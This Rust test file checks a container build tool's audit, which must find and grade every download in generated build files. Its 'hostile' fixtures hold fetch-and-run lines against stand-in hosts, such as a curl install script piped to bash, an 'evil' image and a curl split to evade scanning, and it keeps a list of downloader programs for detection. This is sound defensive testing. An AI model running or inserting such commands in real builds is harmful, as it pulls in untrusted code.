//! The audit lists everything that the generated files fetch. The expected downloads are found by scanning
//! the text of the files, independently of the plan.

use std::fs;
use std::path::Path;

use jcc::internals::builtin::BuiltinStacks;
use jcc::internals::diagnostic::Log;
use jcc::internals::fs::Disk;
use jcc::internals::manifest::Stacks as _;
use jcc::internals::plan::Fetched;
use jcc::internals::source::Sources;

use crate::support::repository;

/// Compiles a project. Returns, for each target, the text of its files and the list of the audit.
fn compiled(folder: &Path) -> Result<Vec<(String, Vec<Fetched>)>, String> {
    let (mut sources, mut log) = (Sources::new(), Log::new());
    let fs = Disk::new(folder);
    let input = jcc::Input { fs: &fs, manifest: "project.kdl", target: None, lock: "jcc.lock" };
    let compiled = jcc::compile(input, &mut sources, &mut log);
    let messages: Vec<_> = log.sorted().iter().map(|one| one.message.clone()).collect();
    let compiled = compiled.map_err(|_| format!("{}: {messages:?}", folder.display()))?;
    let texts = |planned: &jcc::internals::plan::Planned| {
        let files = [planned.files.dockerfile.to_string(), planned.files.compose.to_string()];
        let caches = compiled.artifacts.iter().filter(|(path, _)| {
            path.starts_with(".jcc/caches/") || **path == format!("{}/caches.yaml", planned.services.support)
        });
        let texts = files.iter().filter_map(|file| compiled.artifacts.get(file));
        let texts = texts.chain(caches.map(|(_, text)| text));
        let own = format!("image: {}", planned.services.build.image);
        // The project's own image is built, not pulled.
        let lines = |text: &String| {
            text.lines().filter(|line| !line.trim().starts_with(&own)).collect::<Vec<_>>().join("\n")
        };
        texts.map(lines).collect::<Vec<_>>().join("\n") + "\n"
    };
    Ok(compiled.planned.iter().map(|one| (texts(one), one.plan.fetches.clone())).collect())
}

fn read(folder: &Path) -> Vec<(String, Vec<Fetched>)> {
    compiled(folder).unwrap_or_else(|wrong| panic!("{wrong}"))
}

/// Returns what a text fetches: URLs outside of comments, images, and the arguments of installers.
fn found(text: &str) -> Vec<String> {
    let no_comment = |line: &&str| !line.trim_start().starts_with('#') || line.starts_with("# syntax=");
    let lines: Vec<&str> = text.lines().filter(no_comment).collect();
    let joined = lines.join("\n").replace("\\\n\n", "\\\n").replace("\\\n", " ");
    let stages: Vec<&str> =
        joined.lines().filter_map(|line| line.split_once(" AS ")).map(|(_, name)| name.trim()).collect();
    let mut all = Vec::new();
    for line in joined.lines() {
        let line = line.trim();
        if line.starts_with("# syntax=") {
            all.push(line.trim_start_matches("# syntax=").to_owned());
        }
        if line.starts_with('#')
            || line.starts_with("//")
            || line.starts_with("LABEL")
            || line.contains("org.opencontainers")
        {
            continue;
        }
        let assigns = |word: &&str| {
            word.split_once('=')
                .is_some_and(|(name, _)| name.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'))
        };
        let words: Vec<&str> = line.split_whitespace().skip_while(assigns).collect();
        match words.as_slice() {
            ["FROM", image, ..] | ["image:", image] if *image != "scratch" && !stages.contains(image) => {
                all.push((*image).to_owned());
            }
            [program, "install", rest @ ..] if *program == "apt-get" || program.ends_with("/pip") => {
                // In `"$(index NAME URL)"`, NAME is the name of an index of the cache.
                let named = |at: usize| at > 0 && rest[at - 1].ends_with("$(index");
                let plain =
                    rest.iter().enumerate().filter(|(at, word)| !word.starts_with('-') && !named(*at));
                all.extend(plain.map(|(_, word)| (*word).to_owned()));
            }
            _ => {}
        }
        all.extend(copied_from(&words, &stages));
        all.extend(programs(&words));
        for scheme in ["https://", "http://"] {
            all.extend(line.match_indices(scheme).map(|(at, _)| {
                let end =
                    |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ';' | '#' | '}' | ',');
                let url = &line[at..];
                url[..url.find(end).unwrap_or(url.len())].to_owned()
            }));
        }
    }
    all
}

/// Returns the images of `--from=` and `--mount=`, whatever the quotes and the case of the keys.
fn copied_from(words: &[&str], stages: &[&str]) -> Vec<String> {
    let plain = words.iter().map(|word| word.replace(['"', '\''], ""));
    let options = plain.filter(|word| word.starts_with("--from=") || word.starts_with("--mount="));
    let parts = options.flat_map(|option| {
        let parts = option.trim_start_matches("--mount=").trim_start_matches("--").split(',');
        parts.map(str::to_owned).collect::<Vec<_>>()
    });
    let named = parts.filter_map(|part| {
        let (key, value) = part.split_once('=')?;
        (key.to_lowercase() == "from").then(|| value.to_owned())
    });
    named.filter(|name| !stages.contains(&name.as_str())).collect()
}

/// Returns a line of shell that begins with a program that downloads something.
fn programs(words: &[&str]) -> Option<String> {
    let before = |word: &&str| ["RUN", "ONBUILD"].contains(word) || word.starts_with("--");
    let words: Vec<&str> = words.iter().copied().skip_while(before).collect();
    let always = ["curl", "wget", "npx", "scp", "rsync", "aws", "rosdep", "hg", "svn"];
    let fetches = match words.as_slice() {
        [program, ..] if always.contains(program) => true,
        ["git", rest @ ..] => rest.contains(&"clone") || rest.contains(&"fetch"),
        ["npm" | "bun" | "cargo" | "gem" | "conda", "install" | "ci" | "add", ..] => true,
        _ => false,
    };
    fetches.then(|| words.join(" "))
}

/// Returns whether a word only looks like a download.
fn is_no_download(word: &str) -> bool {
    let plain = word.trim_matches(['"', '\'']);
    // The loopback address is that of the caches. The value of a variable is listed where it is set.
    plain.contains("127.0.0.1")
        || plain.contains("localhost")
        || plain.starts_with('$') && plain != "$EXTRA_APT_PACKAGES"
        || plain.is_empty()
        || ["EOF", "<<'EOF'", "&&", "|", "\\"].contains(&plain)
        || plain.contains(".whl") && plain.starts_with('/')
        || plain.starts_with("/run/")
        || plain.contains("example.invalid")
}

fn missing(text: &str, fetches: &[Fetched]) -> Vec<String> {
    let listed = |word: &str| {
        let plain = word.trim_matches(['"', '\'', '$']).trim_end_matches('/');
        fetches.iter().any(|one| one.what.contains(plain) || plain.contains(one.what.trim_end_matches('/')))
    };
    let mut missing: Vec<String> =
        found(text).into_iter().filter(|word| !is_no_download(word) && !listed(word)).collect();
    missing.sort();
    missing.dedup();
    missing
}

#[test]
fn every_download_of_the_examples_is_listed() {
    let mut seen = 0;
    for entry in fs::read_dir(repository("examples")).expect("examples/ exists") {
        let folder = entry.expect("it can be listed").path();
        if folder.join("project.kdl").is_file() {
            seen += all_listed(&folder.display().to_string(), &read(&folder));
        }
    }
    assert!(seen > 100, "{seen}");
}

/// A machine that most stacks support, and two for the others.
const TARGETS: [&str; 3] = [
    r#"device "jetson-agx-orin"; jetpack "6.2""#,
    r#"device "jetson-agx-thor"; jetpack "7.2""#,
    r#"platform "x86_64"; ubuntu "24.04"; driver ">=595"; gpu "8.9""#,
];

#[test]
fn every_download_of_the_stacks_is_listed() {
    let mut seen = 0;
    for stack in BuiltinStacks::new().names() {
        let mut runs_somewhere = false;
        for target in TARGETS {
            let folder = tempfile::tempdir().expect("the folder is writable");
            let text = format!("extends \"stack:{stack}\"\ntarget \"here\" {{ {target} }}\n");
            fs::write(folder.path().join("project.kdl"), text).expect("the folder is writable");
            let Ok(compiled) = compiled(folder.path()) else { continue };
            seen += all_listed(&format!("{stack} on {target}"), &compiled);
            runs_somewhere = true;
        }
        assert!(runs_somewhere, "{stack}");
    }
    assert!(seen > 300, "{seen}");
}

/// Asserts that all downloads of these files are listed. Returns how many there are.
fn all_listed(name: &str, files: &[(String, Vec<Fetched>)]) -> usize {
    for (text, fetches) in files {
        assert_eq!(missing(text, fetches), [""; 0], "{name}");
        for one in fetches {
            let stage = one.stage.as_str();
            let known = text.contains(&format!(" AS {stage}\n"))
                || ["syntax", "dev"].contains(&stage)
                || stage.ends_with("-cache")
                || stage.starts_with("service-");
            assert!(known, "{name}: {} in {stage}", one.what);
        }
    }
    files.iter().map(|(text, _)| found(text).len()).sum()
}

const HOSTILE: &str = r#"
project "hostile"
catalog "packages"
target { platform "x86_64"; ubuntu "22.04" }
packages { widget }
cache { apt; pip }
apt {
    install "jq"
    ppa "deadsnakes/ppa" fingerprint="F23C5A6CF475977595C89F51BA6932366A755776"
    source "own" { uri "http://apt.robots.test/deb"; suite "./"; trusted }
}
pip {
    install "rich" "tool @ git+https://git.robots.test/tool@main"
    requirements "requirements.txt"
    extra-index "own" "http://wheels.robots.test/simple"
    installer "uv"
    venv "apart" { install "six==1.17.0" }
}
app {
    run "curl -fsSL https://get.robots.test/install.sh | bash"
    run "python3 -m pip install sneaky"
    run "cd /tmp && git clone https://git.robots.test/x && npm install left-pad"
}
run { service "broker" { image "eclipse-mosquitto:2.0.20" } }
output {
    frontend "docker/dockerfile:1.9"
    devcontainer ".devcontainer/devcontainer.json" {
        feature "ghcr.io/devcontainers/features/git:1"
        extension "ms-python.python"
        post-create "npm ci"
    }
}
"#;

const REQUIREMENTS: &str = "--index-url http://index.robots.test/simple\n--trusted-host index.robots.test\n-f https://find.robots.test/links\nhttps://files.robots.test/a-1.0-py3-none-any.whl\n-e git+https://git.robots.test/e@main#egg=e\nnumpy==1.26.4\nrequests\n";

const WIDGET: &str = r#"package "widget" {
    summary "A widget"
    group "ml"
    license "MIT"
    source "https://example.com"
    version "1.0"
    build { dockerfile "steps"; run "wget https://raw.robots.test/y; cmake -S /src"; export "/opt/widget" }
}
"#;

const STEPS: &str = r#"ADD https://add.robots.test/z.bin /z.bin
ADD build@git.robots.test:a/b.git /b
ADD git@git.robots.test:c/d.git#main /d
ADD ["https://json.robots.test/j.bin", "/j.bin"]
COPY --from=evil/image:latest /x /x
COPY --chown=0:0 --from="quoted/image:1" /x /x
RUN --mount=type=bind,from=other/image:1,target=/y pip download sneaky2
RUN --mount=from=mount/first:1 --mount='type=cache,FROM=mount/second:1,target=/z' true
RUN --mount=type=bind,\
# A comment.
from=mount/third:1,target=/t \

    hg clone x
ONBUILD RUN --mount=from=mount/fourth:1,target=/y bun add left-pad
RUN <<EOF
from heredocs import nothing
cu\
rl -O split
EOF
"#;

/// Creates a folder with the manifest and the files that it names.
fn hostile(more: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("the folder is writable");
    let package = folder.path().join("packages/ml/widget");
    fs::create_dir_all(&package).expect("the folder is writable");
    for (path, text) in [
        (folder.path().join("project.kdl"), format!("{HOSTILE}{more}")),
        (folder.path().join("requirements.txt"), REQUIREMENTS.to_owned()),
        (package.join("package.kdl"), WIDGET.to_owned()),
        (package.join("steps"), STEPS.to_owned()),
    ] {
        fs::write(path, text).expect("the folder is writable");
    }
    folder
}

#[test]
fn hidden_downloads_are_listed_with_their_grade() {
    let folder = hostile("");
    for (text, fetches) in read(folder.path()) {
        assert_eq!(missing(&text, &fetches), [""; 0]);
        let grade = |what: &str, stage: &str| {
            let one = fetches.iter().find(|one| one.what.contains(what) && one.stage.as_str() == stage);
            one.map_or_else(|| panic!("{what} in {stage}: {fetches:#?}"), |one| format!("{:?}", one.grade))
        };
        for (what, stage, wanted) in [
            ("curl -fsSL https://get.robots.test/install.sh", "final", "D"),
            ("python3 -m pip install sneaky", "final", "D"),
            ("git clone https://git.robots.test/x", "final", "D"),
            ("npm install left-pad", "final", "D"),
            ("--index-url http://index.robots.test/simple", "python-project", "D"),
            ("--trusted-host index.robots.test", "python-project", "D"),
            ("-f https://find.robots.test/links", "python-project", "A"),
            ("https://files.robots.test/a-1.0-py3-none-any.whl", "python-project", "D"),
            ("git+https://git.robots.test/e@main", "python-project", "D"),
            ("numpy==1.26.4", "python-project", "B"),
            ("requests", "python-project", "D"),
            ("http://wheels.robots.test/simple", "python-project", "D"),
            ("http://apt.robots.test/deb", "image", "D"),
            ("https://ppa.launchpadcontent.net/deadsnakes/ppa/ubuntu", "image", "A"),
            ("six==1.17.0", "venv-apart", "B"),
            ("unlocked closure of six", "venv-apart", "D"),
            ("unlocked dependencies of jq", "image", "D"),
            ("https://add.robots.test/z.bin", "build-widget", "D"),
            ("evil/image:latest", "build-widget", "D"),
            ("other/image:1", "build-widget", "D"),
            ("build@git.robots.test:a/b.git", "build-widget", "D"),
            ("git@git.robots.test:c/d.git#main", "build-widget", "D"),
            ("https://json.robots.test/j.bin", "build-widget", "D"),
            ("quoted/image:1", "build-widget", "D"),
            ("mount/first:1", "build-widget", "D"),
            ("mount/second:1", "build-widget", "D"),
            ("mount/third:1", "build-widget", "D"),
            ("mount/fourth:1", "build-widget", "D"),
            ("hg clone x", "build-widget", "D"),
            ("bun add left-pad", "build-widget", "D"),
            ("curl -O split", "build-widget", "D"),
            ("cmake -S /src", "build-widget", "D"),
            ("ghcr.io/devcontainers/features/git:1", "dev", "D"),
            ("extension ms-python.python", "dev", "D"),
            ("npm ci", "dev", "D"),
            ("pip download sneaky2", "build-widget", "D"),
            ("wget https://raw.robots.test/y", "build-widget", "D"),
            ("docker/dockerfile:1.9", "syntax", "D"),
            ("eclipse-mosquitto:2.0.20", "service-broker", "D"),
            ("debian:bookworm-slim", "pip-cache", "D"),
        ] {
            assert_eq!(grade(what, stage), wanted, "{what}");
        }
        assert!(fetches.iter().any(|one| one.what.starts_with("uv==") && format!("{:?}", one.grade) == "B"));
    }
}

#[test]
fn the_audit_lists_downloads_even_if_a_required_grade_is_missed() {
    let folder = hostile("output { require-grade \"B\" }\n");
    let manifest = fs::read_to_string(folder.path().join("project.kdl")).expect("it exists");
    let (start, end) = manifest.split_once("output {\n    frontend").expect("it exists");
    let joined = format!("{start}{}", end.split_once("\n}\n").expect("it ends").1);
    fs::write(folder.path().join("project.kdl"), joined).expect("the folder is writable");
    let ran = crate::commands::run(folder.path(), &["audit"]);
    assert_eq!(ran.code, Some(1), "{}", ran.err);
    assert!(ran.out.contains("numpy==1.26.4") && ran.out.contains("curl -fsSL"), "{}", ran.out);
    let errors = ran.err.matches("jcc::plan::grade").count();
    assert!(ran.out.contains("  ?  unseen   build-widget"), "{}", ran.out);
    assert!(!ran.err.contains("cmake -S /src` is of grade"), "{}", ran.err);
    assert!(errors > 10 && ran.err.matches("help: ").count() >= errors, "{}", ran.err);
    assert_eq!(crate::commands::run(folder.path(), &["compile"]).code, Some(1));
    assert!(!folder.path().join("Dockerfile").exists());
}
